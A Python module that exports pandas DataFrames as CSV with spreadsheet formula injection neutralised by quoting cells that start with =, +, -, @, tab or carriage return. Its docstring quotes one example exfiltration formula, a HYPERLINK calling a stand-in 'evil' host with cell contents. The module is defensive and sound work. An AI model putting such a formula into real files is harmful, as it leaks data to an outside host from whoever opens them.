"""What the project writes for spreadsheets: CSV whose cells a spreadsheet cannot run as formulas.

A title typed by a requester (``=HYPERLINK("http://evil/?"&A1)``, ``@SUM(...)``) would otherwise become a live
formula in whoever opens the export. OWASP's rule: a text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab
or a carriage return is written behind a single quote, which spreadsheets show but do not evaluate. Number columns
are left as they are, so they still read as numbers.
"""

from __future__ import annotations

import pandas as pd

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _neutralised(value: object) -> object:
    return f"'{value}" if isinstance(value, str) and value.startswith(_FORMULA_STARTS) else value


def safe_csv(frame: pd.DataFrame) -> str:
    """``frame`` as CSV text (no index), every text cell that could start a formula neutralised."""
    text_columns = frame.select_dtypes(include=["object", "string"]).columns
    safe = frame.copy()
    for column in text_columns:
        safe[column] = safe[column].map(_neutralised)
    # RFC 4180's line ending: a cell holding a lone carriage return is then quoted, not read as a row's end.
    return safe.to_csv(index=False, lineterminator="\r\n")
